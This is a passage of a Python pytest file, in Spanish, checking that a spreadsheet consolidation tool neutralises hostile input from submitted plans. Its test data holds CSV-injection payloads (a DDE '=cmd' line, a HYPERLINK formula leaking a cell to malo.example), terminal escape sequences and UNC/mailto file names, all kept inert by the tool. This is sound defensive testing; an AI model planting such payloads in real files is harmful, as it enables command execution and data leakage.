"""Robustez II: lo que escribe `pea consolidar` (maestro, CSV, Parquet, terminal).

- Un archivo nunca detiene a los demás: un valor extremo (1e308, NaN, 400 cifras, 32,767
  caracteres, cada carácter de control) en cualquier columna de un plan, o una falla
  interna al escribir los datos de una entrega, deja esa entrega degradada en «Entregas»
  (con lo que pasó, en español) y el maestro se escribe con todos los demás.
- Nada de lo que escribe una dependencia llega vivo a otra parte: fórmulas en el CSV,
  secuencias de terminal y markup de rich en la pantalla, vínculos UNC/http/mailto en
  «Entregas».
- Cada salida dice lo que de verdad falló (disco lleno, de solo lectura) y las
  exportaciones son todo o nada.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from pea.config import load_config
from pea.consolidate.run import Options, consolidate
from tests.hostile.corpus import FORBIDDEN, plan_bytes
from tests.hostile.master import sheet_rows
from tests.hostile.runner import run_pea, tree_hashes
from tests.hostile.zipparts import read_parts, rezip

#: Todos los caracteres de control (C0, DEL y C1), en un solo texto.
CONTROLS = "".join(chr(i) for i in range(32)) + "".join(chr(i) for i in range(0x7f, 0xa0))
#: Marcador en el libro que se cambia por los caracteres de control (openpyxl no los escribe).
_CTRL = "\u2063CTRL\u2063"
EXTREMES: list[Any] = [1e308, -1e308, 1e-320, float("nan"), float("inf"), float("-inf"),
                       -0.0, "9" * 400, "-" + "9" * 400, "9" * 5000 + ". Eje", "1e999999",
                       "x" * 32_767, _CTRL, "=1+1",
                       "[/x]", "\t=HYPERLINK(\"http://x\")", 0.5, None]
#: Columnas de datos del plan (A–T) y la celda de la Dependencia.
COLUMNS = [chr(c) for c in range(ord("A"), ord("T") + 1)]
DEP_CELL = "B4"
_BASE = plan_bytes(1)


def _xml_escape_controls(text: str) -> str:
    """Los caracteres de control como los escribe Excel en el XML («_x001B_»)."""
    return "".join(f"_x{ord(ch):04X}_" if ord(ch) < 32 or 0x7f <= ord(ch) < 0xa0 else ch
                   for ch in text)


def extreme_plan(values: dict[str, Any]) -> bytes:
    """El plan del demo con `values` (celda → valor). openpyxl no escribe caracteres de
    control: esos textos se escriben con un marcador y se cambian en el XML («_x001B_»)."""
    wb = load_workbook(io.BytesIO(_BASE))
    ws = wb.worksheets[0]
    markers: dict[str, str] = {}
    for ref, value in values.items():
        for rng in list(ws.merged_cells.ranges):
            if ref in rng:
                ws.unmerge_cells(str(rng))
        if value == _CTRL:
            value = CONTROLS
        if isinstance(value, str) and re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", value):
            marker = f"\u2063M{len(markers)}\u2063"
            markers[marker] = value
            value = marker
        ws[ref] = value
        if isinstance(value, str):
            ws[ref].data_type = "s"  # «=1+1» como texto, como lo escribe una persona con «'»
        if ref[0] in "MNOP" and isinstance(value, float):
            ws[ref].number_format = "0%"
    out = io.BytesIO()
    wb.save(out)
    data = out.getvalue()
    parts = read_parts(data)
    changed = {}
    for name, body in parts.items():
        new = body
        for marker, text in markers.items():
            new = new.replace(marker.encode(), _xml_escape_controls(text).encode())
        if new != body:
            changed[name] = new
    return rezip(data, changed) if changed else data


def _check_run(folder: Path, output: Path, names: list[str]) -> None:
    """El maestro, los CSV y los Parquet se escribieron y cada archivo está en Entregas."""
    assert output.is_file()
    entregas = sheet_rows(output, "Entregas")
    assert sorted(str(r["Archivo"]) for r in entregas) == sorted(names)
    csv_dir, pq_dir = output.parent / "csv", output.parent / "pq"
    assert len(list(csv_dir.glob("*.csv"))) == 7
    assert len(list(pq_dir.glob("*.parquet"))) == 7
    assert not [p for p in output.parent.rglob(".~pea-*")], "quedaron temporales"


cell_values = st.sampled_from(EXTREMES)


@settings(max_examples=8, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(values=st.fixed_dictionaries({c: cell_values for c in [*COLUMNS, DEP_CELL]}),
       second=st.fixed_dictionaries({c: cell_values for c in COLUMNS}))
def test_valores_extremos_en_cada_columna_no_detienen_la_corrida(
        tmp_path_factory: pytest.TempPathFactory, values: dict[str, Any],
        second: dict[str, Any]) -> None:
    """Propiedad: cualquier combinación de valores extremos en las columnas A–T (fila
    principal y continuación) y en la Dependencia; el maestro, el CSV y el Parquet se
    escriben y cada archivo aparece en «Entregas»."""
    base = tmp_path_factory.mktemp("extremos")
    folder = base / "entregas"
    folder.mkdir()
    cells = {f"{c}10": v for c, v in values.items() if c != DEP_CELL}
    cells.update({f"{c}11": v for c, v in second.items()})
    cells[DEP_CELL] = values[DEP_CELL]
    (folder / "extremo.xlsx").write_bytes(extreme_plan(cells))
    (folder / "bueno.xlsx").write_bytes(plan_bytes(2))
    output = base / "salida" / "maestro.xlsx"
    output.parent.mkdir()
    consolidate(Options(folder=folder, output=output, csv_dir=output.parent / "csv",
                        parquet_dir=output.parent / "pq", workers=1), load_config())
    _check_run(folder, output, ["bueno.xlsx", "extremo.xlsx"])
    plan = sheet_rows(output, "Plan consolidado")
    assert {r["Archivo"] for r in plan} >= {"bueno.xlsx"}


def test_todos_los_extremos_por_la_linea_de_comandos(tmp_path: Path) -> None:
    """Cada valor extremo en cada columna (un plan por valor), con --csv y --parquet, como
    lo corre una persona: código 0, sin trazas, cada archivo en «Entregas»."""
    folder = tmp_path / "entregas"
    folder.mkdir()
    names = []
    for i, value in enumerate(EXTREMES):
        cells = {f"{c}10": value for c in COLUMNS}
        cells[DEP_CELL] = value if isinstance(value, str) else f"Dependencia {i}"
        name = f"extremo_{i:02d}.xlsx"
        (folder / name).write_bytes(extreme_plan(cells))
        names.append(name)
    output = tmp_path / "salida" / "maestro.xlsx"
    proc = run_pea("consolidar", folder, "-o", output, "--csv", output.parent / "csv",
                   "--parquet", output.parent / "pq", "--procesos", "2", timeout=300)
    text = proc.stdout + proc.stderr
    assert proc.returncode == 0, text
    for bad in FORBIDDEN:
        assert bad not in text, text
    assert "no se pudieron escribir" not in text, text  # ninguno degradado: es el último recurso
    _check_run(folder, output, names)


def _quarter_1e308() -> bytes:
    """El caso reproducido: un trimestre con el número 1e308 (formato de porcentaje)."""
    data = plan_bytes(10)
    sheet = read_parts(data)["xl/worksheets/sheet1.xml"]
    cell = re.search(rb'<c r="M10"[^>]*?(?:/>|>.*?</c>)', sheet, re.DOTALL)
    assert cell
    style = re.search(rb's="\d+"', cell.group(0))
    assert style
    new = b'<c r="M10" ' + style.group(0) + b' t="n"><v>1e308</v></c>'
    return rezip(data, {"xl/worksheets/sheet1.xml": sheet.replace(cell.group(0), new)})


def test_trimestre_1e308_no_deja_sin_maestro(tmp_path: Path) -> None:
    """Antes: «Error interno (OverflowError…)», código 1 y ningún maestro."""
    folder = tmp_path / "entregas"
    folder.mkdir()
    (folder / "grande.xlsx").write_bytes(_quarter_1e308())
    (folder / "bueno.xlsx").write_bytes(plan_bytes(1))
    output = tmp_path / "maestro.xlsx"
    proc = run_pea("consolidar", folder, "-o", output, "-q")
    assert proc.returncode == 0, proc.stderr
    assert "Error interno" not in proc.stderr
    entregas = {r["Archivo"]: r for r in sheet_rows(output, "Entregas")}
    assert entregas["grande.xlsx"]["Estado"] == "Rechazado"  # PEA-Q02: fuera de 0–100 %
    plan = [r for r in sheet_rows(output, "Plan consolidado") if r["Archivo"] == "grande.xlsx"]
    assert plan and plan[0]["1° trimestre"] == "1e+308"  # el valor, como texto


@pytest.mark.parametrize("fast", [True, False])
def test_numeros_que_excel_no_guarda_en_ambos_caminos_del_maestro(tmp_path: Path,
                                                                  fast: bool) -> None:
    """Aunque un número que Excel no guarda llegue a las líneas (caché de otra versión),
    el camino rápido y el público escriben texto, nunca «INF» ni un OverflowError; el CSV
    y el Parquet también se escriben."""
    from pea.consolidate import export, master

    folder = tmp_path / "entregas"
    folder.mkdir()
    (folder / "a.xlsx").write_bytes(plan_bytes(1))
    config = load_config()
    result = consolidate(Options(folder=folder, output=tmp_path / "m.xlsx", workers=1), config)
    c = result.consolidation
    outcome = c.submissions[0].outcome
    assert outcome is not None
    line = outcome.lines[0]
    values = list(line.values)
    values[12:16] = [float("inf"), float("nan"), 1e308, 1e-320]  # t1–t4
    outcome.lines[0] = line._replace(values=tuple(values))
    target = tmp_path / f"maestro_{fast}.xlsx"
    master.write_master(c, config, target, fast=fast)
    row = next(r for r in sheet_rows(target, "Plan consolidado"))
    assert [row[k] for k in ("1° trimestre", "2° trimestre", "3° trimestre", "4° trimestre")] \
        == ["inf", "nan", "1e+308", "1e-320"]
    with zipfile.ZipFile(target) as z:
        assert b"<v>INF" not in z.read("xl/worksheets/sheet1.xml").upper()
    export.write_csv(c, config, tmp_path / "csv")
    export.write_parquet(c, config, tmp_path / "pq")


@pytest.mark.parametrize("where", ["resumen", "estados"])
def test_una_falla_interna_con_los_datos_de_un_archivo_solo_degrada_ese_archivo(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    """Cualquier defecto al armar las hojas con los datos de una entrega (aquí, uno
    simulado en el Resumen o al asignar los estados) deja esa entrega Ilegible con el
    motivo en «Entregas» y un aviso que la nombra; el maestro se escribe con las demás."""
    from pea.consolidate import status, summary

    if where == "resumen":
        original = summary._quarters

        def broken(line: Any) -> Any:
            if "Dirección de Ingresos" in line.values:  # una línea de la Tesorería
                raise ZeroDivisionError("defecto simulado")
            return original(line)

        monkeypatch.setattr(summary, "_quarters", broken)
    else:
        original_facts = status.facts

        def broken_facts(sub: Any) -> Any:
            if sub.archivo == "tesoreria.xlsx":
                raise ZeroDivisionError("defecto simulado")
            return original_facts(sub)

        monkeypatch.setattr(status, "facts", broken_facts)
    folder = tmp_path / "entregas"
    folder.mkdir()
    (folder / "tesoreria.xlsx").write_bytes(plan_bytes(1))  # Tesorería Municipal
    (folder / "otro.xlsx").write_bytes(plan_bytes(2))
    output = tmp_path / "maestro.xlsx"
    result = consolidate(Options(folder=folder, output=output, csv_dir=tmp_path / "csv",
                                 workers=1), load_config())
    entregas = {r["Archivo"]: r for r in sheet_rows(output, "Entregas")}
    assert entregas["tesoreria.xlsx"]["Estado"] == "Ilegible"
    # en español: el texto de la excepción (en inglés) solo va al registro de depuración
    assert "ZeroDivisionError" not in str(entregas["tesoreria.xlsx"]["Motivo"])
    assert "no se pudieron escribir" in str(entregas["tesoreria.xlsx"]["Motivo"])
    assert entregas["otro.xlsx"]["Estado"] in ("Aceptado", "Con observaciones")
    assert any("«tesoreria.xlsx»" in w for w in result.consolidation.avisos)
    assert len(list((tmp_path / "csv").glob("*.csv"))) == 7


# --- 2. Nada de lo que escribe una dependencia llega vivo a otra parte ------------------

#: Textos que una hoja de cálculo tomaría como fórmula en un CSV (OWASP, «CSV Injection»).
FORMULAS = ['=HYPERLINK("http://malo.example/?"&A1,"Clic")', "+1+1", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", '=cmd|" /C calc"!A0']


def _csv_rows(folder: Path, name: str) -> list[dict[str, str]]:
    with open(folder / f"{name}.csv", encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_sin_formulas_vivas(tmp_path: Path) -> None:
    """Texto del plan, Dependencia, nombre del archivo y Observaciones que empiezan como
    fórmula llevan un apóstrofo delante en el CSV; los números siguen siendo números; el
    Parquet guarda el texto tal cual (columnas de texto)."""
    folder = tmp_path / "entregas"
    folder.mkdir()
    cells = {"B4": FORMULAS[0], "L10": FORMULAS[1], "Q10": FORMULAS[2], "R10": FORMULAS[3],
             "K10": FORMULAS[4], "S10": FORMULAS[5], "J10": FORMULAS[6], "M11": "=1+1"}
    (folder / "=1+1.xlsx").write_bytes(extreme_plan(cells))
    (folder / "bueno.xlsx").write_bytes(plan_bytes(2))
    out = tmp_path / "bi"
    proc = run_pea("consolidar", folder, "-o", tmp_path / "m.xlsx", "--csv", out,
                   "--parquet", out, "-q")
    assert proc.returncode == 0, proc.stderr
    seen = set()
    for csv_file in out.glob("*.csv"):
        with open(csv_file, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for value in row:
                    if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        pytest.fail(f"{csv_file.name}: celda viva {value!r}")
                    seen.add(value)
    for text in [*FORMULAS, "=1+1.xlsx"]:
        assert "'" + text.strip() in seen, text  # el lector quita los espacios de los extremos
    entregas = {r["Archivo"]: r for r in _csv_rows(out, "entregas")}
    assert entregas["'=1+1.xlsx"]["Dependencia"] == "'" + FORMULAS[0]
    plan = [r for r in _csv_rows(out, "plan_consolidado") if r["Archivo"] == "bueno.xlsx"]
    assert plan and float(plan[0]["1° trimestre"]) >= 0  # número, sin apóstrofo
    assert all(r["Fila"].isdigit() for r in plan)
    obs = [r for r in _csv_rows(out, "observaciones") if r["Archivo"] == "'=1+1.xlsx"]
    assert obs and all(not r["Mensaje"].startswith(("=", "+", "-", "@")) for r in obs)
    import pyarrow.parquet as pq

    table = pq.read_table(out / "entregas.parquet").to_pylist()
    assert {r["Archivo"] for r in table} == {"=1+1.xlsx", "bueno.xlsx"}  # texto tal cual


def test_texto_con_tabulador_o_retorno_al_inicio_tambien_se_neutraliza() -> None:
    """El lector de CSV quita el tabulador o el retorno del inicio: «\\t=1+1» llegaría
    como «=1+1». Un número de verdad (también negativo) queda como número."""
    from pea.consolidate.export import csv_text

    for text in ("\t=1+1", "\r=1+1", "\t", " =1+1", "\n-1", "-", "@x", "+"):
        assert csv_text(text) == "'" + text, text
    assert csv_text("Tesorería = bien") == "Tesorería = bien"
    assert csv_text(-0.5) == -0.5 and csv_text(3) == 3 and csv_text(None) is None
    assert csv_text(float("inf")) == "inf"


def test_maestro_sin_formulas_ni_vinculos_de_la_dependencia(tmp_path: Path) -> None:
    """En el maestro, un texto que empieza con «=» o es una dirección web es texto: ni
    fórmula ni hipervínculo (XlsxWriter con strings_to_formulas/urls apagados)."""
    folder = tmp_path / "entregas"
    folder.mkdir()
    cells = {"B4": FORMULAS[0], "L10": "=1+1", "R10": "http://malo.example/",
             "Q10": "mailto:a@malo.example"}
    (folder / "a.xlsx").write_bytes(extreme_plan(cells))
    output = tmp_path / "m.xlsx"
    assert run_pea("consolidar", folder, "-o", output, "-q").returncode == 0
    with zipfile.ZipFile(output) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet") and name.endswith(".xml"):
                assert b"<f>" not in z.read(name), name
            if name.endswith(".rels") and "worksheets" in name:
                assert b"malo.example" not in z.read(name), name
    wb = load_workbook(output)
    plan = wb["Plan consolidado"]
    values = {c.value for row in plan.iter_rows() for c in row}
    assert "=1+1" in values and FORMULAS[0] in values


def test_la_terminal_muestra_los_nombres_escapados_y_literales(tmp_path: Path) -> None:
    """ESC/BEL en una Dependencia o en el nombre de un archivo salen escapados; el markup
    de rich sale tal cual: «[/x]» en una Dependencia daba «Error interno (MarkupError)»
    (código 1, con el maestro ya escrito) y «Tesoreria [final].xlsx» salía «Tesoreria .xlsx»."""
    folder = tmp_path / "entregas"
    folder.mkdir()
    dep = "Tesorería [/x] [bold]\x1b]0;titulo\x07\x1b[2J"
    first, second = "Tesoreria [final].xlsx", "Tesoreria \x1b[2Jcopia.xlsx"
    (folder / first).write_bytes(extreme_plan({"B4": dep}))
    (folder / second).write_bytes(extreme_plan({"B4": dep, "L10": "Otra meta"}))
    proc = run_pea("consolidar", folder, "-o", tmp_path / "m.xlsx")
    text = proc.stdout + proc.stderr
    assert proc.returncode == 0, text
    assert "Error interno" not in text
    assert "\x1b" not in text and "\x07" not in text
    assert "PEA-X01" in text or "Sustituido" in text or "[/x]" in text
    assert "[/x] [bold]" in text and "\\x1b]0;titulo\\x07" in text
    assert "Tesoreria [final].xlsx" in text or "Tesoreria \\x1b[2Jcopia.xlsx" in text


def test_los_avisos_escapan_los_nombres(tmp_path: Path) -> None:
    """Las líneas «Aviso:» nombran archivos: sus caracteres de control y saltos de línea
    salen escapados (un salto no puede fingir otra línea del reporte)."""
    folder = tmp_path / "entregas"
    folder.mkdir()
    seed = Path(__file__).parent / "fixtures" / "semilla_comunicacion_social.txt"
    name = "semilla \x1b[2J[x]\nAviso: falso.txt"
    (folder / name).write_bytes(seed.read_bytes())
    proc = run_pea("consolidar", folder, "-o", tmp_path / "m.xlsx", "--anotar",
                   tmp_path / "anotados", "-q")
    assert proc.returncode == 0, proc.stderr
    assert "\x1b" not in proc.stderr
    avisos = [line for line in proc.stderr.splitlines() if line.startswith("Aviso:")]
    assert avisos and all("falso" not in line or "\\n" in line for line in avisos)
    assert not any(line.startswith("Aviso: falso") for line in proc.stderr.splitlines())
    from pea.cli.common import literal, shown

    assert shown("a\x1b[2J\x07\nAviso: falso\tx") == "a\\x1b[2J\\x07\\nAviso: falso\\tx"
    assert literal("[/x] [bold]y").plain == "[/x] [bold]y"


@pytest.mark.parametrize("name", [
    "\\\\malo.example\\share\\plan.xlsx", "http:\\\\malo.example\\plan.xlsx",
    "mailto:a@malo.example.xlsx", "C:\\Windows\\plan.xlsx", "file:plan.xlsx",
])
def test_vinculos_de_entregas_solo_relativos_a_la_entrega(tmp_path: Path, name: str) -> None:
    """Con el maestro dentro de la carpeta de entregas, un nombre con barras invertidas o
    «:» no se vuelve un vínculo UNC, http ni mailto: la celda queda como texto (y un
    nombre normal sigue con su vínculo relativo)."""
    folder = tmp_path / "entregas"
    folder.mkdir()
    (folder / name).write_bytes(plan_bytes(1))
    (folder / "Tesorería [final] #2.xlsx").write_bytes(plan_bytes(2))
    output = folder / "maestro.xlsx"
    assert run_pea("consolidar", folder, "-o", output, "-q").returncode == 0
    ws = load_workbook(output)["Entregas"]
    links = {ws.cell(r, 1).value: ws.cell(r, 1).hyperlink for r in range(2, ws.max_row + 1)}
    assert links[name] is None
    good = links["Tesorería [final] #2.xlsx"]
    assert good is not None and good.target.startswith("Tesor")
    with zipfile.ZipFile(output) as z:
        for part in z.namelist():
            if part.endswith(".rels") and "worksheets" in part:
                for target in re.findall(r'Target="([^"]*)"', z.read(part).decode()):
                    if target.startswith(("../", "/xl/")) or "External" not in z.read(part).decode():
                        continue
                    assert ":" not in target and not target.startswith(("\\", "/")), target


def test_vinculo_relativo_armado_con_las_partes() -> None:
    from pea.consolidate.master import relative_link

    base = Path("/srv/entregas")
    assert relative_link(base / "sub" / "a b#1%.xlsx", base) == "external:sub/a%20b%231%25.xlsx"
    assert relative_link(Path("/srv/otra/plan.xlsx"), base) == "external:../otra/plan.xlsx"
    assert relative_link(base / "x\\y.xlsx", base) is None
    assert relative_link(base / "mailto:a@b.xlsx", base) is None
    assert relative_link(base / ("a" * 2100 + ".xlsx"), base) is None


# --- 5. Cada salida dice lo que de verdad falló ----------------------------------------


@contextmanager
def tmpfs(path: Path, size: str = "256k") -> Iterator[Path]:
    """Un disco diminuto (tmpfs) en `path`; la prueba se salta si no se puede montar."""
    path.mkdir(parents=True, exist_ok=True)
    try:
        proc = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)],
                              capture_output=True, timeout=30)
    except (OSError, subprocess.TimeoutExpired):
        pytest.skip("no se puede montar un tmpfs aquí")
    if proc.returncode != 0:
        pytest.skip("no se puede montar un tmpfs aquí")
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], capture_output=True, timeout=30)


def _fill(disk: Path, leave: int = 2048) -> None:
    """Llena el disco dejando unos pocos bytes libres."""
    free = shutil.disk_usage(disk).free
    with open(disk / "relleno.bin", "wb") as fh:
        fh.write(b"\0" * max(0, free - leave))
        with suppress(OSError):
            fh.flush()


def _read_only(disk: Path) -> None:
    proc = subprocess.run(["mount", "-o", "remount,ro", str(disk)], capture_output=True)
    if proc.returncode != 0:
        pytest.skip("no se puede volver de solo lectura el tmpfs")


def _folder(base: Path, n: int = 3) -> Path:
    folder = base / "entregas"
    folder.mkdir()
    for i in range(n):
        (folder / f"plan_{i}.xlsx").write_bytes(plan_bytes(i))
    return folder


def _cache_entries(output: Path) -> int:
    import sqlite3

    from pea.consolidate.cache import _TABLE, cache_path

    with sqlite3.connect(cache_path(output)) as db:
        return int(db.execute(f"SELECT count(*) FROM {_TABLE}").fetchone()[0])


def test_csv_en_disco_lleno_todo_o_nada_y_el_maestro_y_la_cache_quedan(tmp_path: Path) -> None:
    """Antes: «no se pudo escribir el libro maestro», código 1 (aunque el maestro sí se
    escribió), la caché sin guardar y 4 de 7 CSV. Ahora: el error nombra la exportación,
    el maestro y la caché quedan, y los CSV anteriores siguen intactos (todo o nada)."""
    folder = _folder(tmp_path)
    output = tmp_path / "salida" / "maestro.xlsx"
    with tmpfs(tmp_path / "disco") as disk:
        bi = disk / "bi"
        first = run_pea("consolidar", folder, "-o", output, "--csv", bi, "-q")
        assert first.returncode == 0, first.stderr
        before = tree_hashes(bi)
        assert len(before) == 7
        (folder / "plan_9.xlsx").write_bytes(plan_bytes(9))  # más líneas: CSV más grandes
        output.unlink()
        _fill(disk)
        proc = run_pea("consolidar", folder, "-o", output, "--csv", bi, "-q", "-f", "json")
        assert tree_hashes(bi) == before, "los CSV anteriores cambiaron a medias"
        assert not [p for p in bi.iterdir() if p.name.startswith(".~pea-")]
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr and "Error interno" not in proc.stderr
    assert "no se pudo escribir el libro maestro" not in proc.stderr
    assert "exportación CSV" in proc.stderr and "el disco está lleno" in proc.stderr
    assert "El libro maestro sí se escribió" in proc.stderr
    summary = json.loads(proc.stdout)
    assert summary["salidas_fallidas"] and summary["exportados"] == []
    assert output.is_file() and len(sheet_rows(output, "Entregas")) == 4
    assert _cache_entries(output) == 4


def test_salidas_en_disco_de_solo_lectura_cada_una_su_mensaje(tmp_path: Path) -> None:
    """--csv, --parquet y --anotar en un disco de solo lectura: cada salida dice que el disco
    es de solo lectura; el maestro (en otro disco) se escribe y la caché se guarda."""
    folder = _folder(tmp_path)
    (folder / "con_errores.xlsx").write_bytes(extreme_plan({"M10": "=1+1"}))
    output = tmp_path / "maestro.xlsx"
    with tmpfs(tmp_path / "disco") as disk:
        for sub in ("bi", "pq", "anotados"):
            (disk / sub).mkdir()
        _read_only(disk)
        proc = run_pea("consolidar", folder, "-o", output, "--csv", disk / "bi", "--parquet",
                       disk / "pq", "--anotar", disk / "anotados", "-q")
        assert [list((disk / sub).iterdir()) for sub in ("bi", "pq", "anotados")] == [[]] * 3
    assert proc.returncode == 0, proc.stderr
    assert "no se pudo escribir el libro maestro" not in proc.stderr
    assert "exportación CSV" in proc.stderr and "exportación Parquet" in proc.stderr
    assert "copia anotada" in proc.stderr
    assert proc.stderr.count("el disco es de solo lectura") >= 3, proc.stderr
    assert "Errno" not in proc.stderr and "Read-only" not in proc.stderr
    assert output.is_file() and _cache_entries(output) == 4


def test_maestro_en_disco_lleno_mensaje_documentado(tmp_path: Path) -> None:
    """Antes: «Error interno… repórtelo» (XlsxWriter envuelve el OSError). Ahora el
    mensaje documentado, código 1, sin temporales y el maestro anterior intacto."""
    folder = _folder(tmp_path)
    with tmpfs(tmp_path / "disco", "512k") as disk:
        output = disk / "maestro.xlsx"
        first = run_pea("consolidar", folder, "-o", output, "-q", "--sin-cache")
        assert first.returncode == 0, first.stderr
        old = output.read_bytes()
        (folder / "plan_9.xlsx").write_bytes(plan_bytes(9))
        _fill(disk, leave=4096)
        proc = run_pea("consolidar", folder, "-o", output, "-q", "--sin-cache")
        assert output.read_bytes() == old
        assert not [p for p in disk.iterdir() if p.name.startswith(".~pea-")]
    assert proc.returncode == 1, proc.stderr
    assert "Error interno" not in proc.stderr
    assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr
    assert "no se pudo escribir el libro maestro" in proc.stderr
    assert "el disco está lleno" in proc.stderr


def test_archivos_de_trabajo_de_xlsxwriter_junto_al_maestro(tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """Con más de IN_MEMORY_ROWS líneas, XlsxWriter usa archivos de trabajo: van en una
    carpeta junto al maestro (nunca en $TMPDIR) y se borran al terminar o fallar."""
    import tempfile

    import xlsxwriter.packager

    from pea.consolidate import master

    folder = _folder(tmp_path)
    config = load_config()
    output = tmp_path / "salida" / "maestro.xlsx"
    output.parent.mkdir()
    elsewhere = tmp_path / "tmpdir_del_sistema"
    elsewhere.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(elsewhere))
    monkeypatch.setattr(master, "IN_MEMORY_ROWS", 0)
    used: list[str | None] = []
    real = tempfile.mkstemp

    def spy(*args: Any, **kwargs: Any) -> Any:
        used.append(kwargs.get("dir"))
        return real(*args, **kwargs)

    monkeypatch.setattr(xlsxwriter.packager.tempfile, "mkstemp", spy)
    result = consolidate(Options(folder=folder, output=output, workers=1), config)
    work = [Path(d) for d in used if d and Path(d) != output.parent]  # los de XlsxWriter
    assert work and all(d.parent == output.parent and d.name.startswith(".~pea-maestro-")
                        for d in work), used
    assert list(elsewhere.iterdir()) == []
    assert sorted(p.name for p in output.parent.iterdir()) == [
        "maestro.xlsx", "maestro.xlsx.cache.sqlite"]

    def broken(self: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(master.bulk_sheet.BulkWorksheet, "_write_bulk", broken)
    with pytest.raises(OSError):
        master.write_master(result.consolidation, config, output.parent / "otro.xlsx")
    assert not [p for p in output.parent.iterdir() if p.name.startswith(".~pea-")]


def test_temporales_de_una_corrida_terminada_a_la_fuerza_se_borran(tmp_path: Path) -> None:
    """Lo que deja un `kill -9` junto al maestro lo borra la siguiente corrida (con el
    candado tomado); los temporales de otro maestro de nombre parecido no se tocan."""
    folder = _folder(tmp_path, 1)
    out = tmp_path / "salida"
    out.mkdir()
    (out / ".~pea-maestro-abcd1234.tmp").write_bytes(b"x" * 1000)
    (out / ".~pea-maestro-efgh_678.d").mkdir()
    (out / ".~pea-maestro-efgh_678.d" / "tmpxyz").write_bytes(b"y" * 1000)
    (out / ".~pea-maestro-2-abcd1234.tmp").write_bytes(b"otro maestro")
    bi = tmp_path / "bi"
    bi.mkdir()
    (bi / ".~pea-entregas-abcd1234.tmp").write_bytes(b"csv a medias")
    proc = run_pea("consolidar", folder, "-o", out / "maestro.xlsx", "--csv", bi, "-q")
    assert proc.returncode == 0, proc.stderr
    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".~pea-")) == [
        ".~pea-maestro-2-abcd1234.tmp"]
    assert not [p for p in bi.iterdir() if p.name.startswith(".~pea-")]


def test_sigterm_termina_como_ctrl_c() -> None:
    """`kill` (SIGTERM) durante la corrida llega como KeyboardInterrupt: los `finally`
    borran los temporales y sueltan el candado."""
    import os
    import signal

    from pea.cli.cmd_consolidar import _terminate_cleanly

    with pytest.raises(KeyboardInterrupt), _terminate_cleanly():
        os.kill(os.getpid(), signal.SIGTERM)
        import time

        time.sleep(5)
    assert signal.getsignal(signal.SIGTERM) in (signal.SIG_DFL, None) or callable(
        signal.getsignal(signal.SIGTERM))


def test_nombre_de_archivo_que_no_es_utf8(tmp_path: Path) -> None:
    """Un nombre con bytes que no son UTF-8 (posible en Linux y en memorias USB) hacía
    fallar el maestro, el CSV, el JSON y la terminal («surrogates not allowed»); ahora
    sale con esos bytes como «\\xff», sin vínculo, y la corrida termina bien."""
    import os

    folder = tmp_path / "entregas"
    folder.mkdir()
    with open(os.path.join(os.fsencode(folder), b"plan\xff\x1b.xlsx"), "wb") as fh:
        fh.write(plan_bytes(1))
    (folder / "bueno.xlsx").write_bytes(plan_bytes(2))
    output = tmp_path / "m.xlsx"
    for extra in (["-f", "json"], []):
        proc = run_pea("consolidar", folder, "-o", output, "--csv", tmp_path / "bi",
                       "--parquet", tmp_path / "bi", *extra)
        text = proc.stdout + proc.stderr
        assert proc.returncode == 0, text
        for bad in FORBIDDEN:
            assert bad not in text, text
        assert "\x1b" not in text
    assert json.loads(run_pea("consolidar", folder, "-o", output, "-f", "json").stdout)
    names = sorted(str(r["Archivo"]) for r in sheet_rows(output, "Entregas"))
    assert names[0] == "bueno.xlsx" and names[1].startswith("plan\\xff")
    ws = load_workbook(output)["Entregas"]
    assert [ws.cell(r, 1).hyperlink is None for r in (2, 3)] == [False, True]


def test_una_copia_anotada_que_falla_no_detiene_las_demas(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Una falla al preparar la copia de una entrega deja su aviso; las demás copias se
    escriben. Una falla de toda la carpeta de copias (un archivo ajeno que no se deja
    leer) es un error de esa salida: el maestro y la caché quedan."""
    from pea.consolidate import annotate

    folder = tmp_path / "entregas"
    folder.mkdir()
    (folder / "a.xlsx").write_bytes(extreme_plan({"M10": "=1+1"}))
    (folder / "b.xlsx").write_bytes(extreme_plan({"B4": "Otra dependencia", "N10": "x"}))
    original = annotate.annotated_name

    def broken(archivo: str, *args: Any) -> str:
        if archivo == "a.xlsx":
            raise RuntimeError("defecto simulado")
        return original(archivo, *args)

    monkeypatch.setattr(annotate, "annotated_name", broken)
    output = tmp_path / "m.xlsx"
    copies = tmp_path / "anotados"
    result = consolidate(Options(folder=folder, output=output, annotate_dir=copies, workers=1),
                         load_config())
    assert [p.name for p in result.annotated] and len(result.annotated) == 1
    assert any("«a.xlsx»" in w for w in result.consolidation.avisos)

    def unreadable(path: Path) -> bool:
        raise ValueError("archivo ajeno")

    monkeypatch.setattr(annotate, "untouched_copy", unreadable)
    output.unlink()
    result = consolidate(Options(folder=folder, output=output, annotate_dir=copies, workers=1),
                         load_config())
    assert output.is_file() and _cache_entries(output) == 2
    assert result.failures and "copias anotadas" in result.failures[0]


def test_fecha_de_modificacion_imposible(tmp_path: Path) -> None:
    """Un archivo con fecha del año 35,680,317 (o anterior a 1900) daba «Error interno
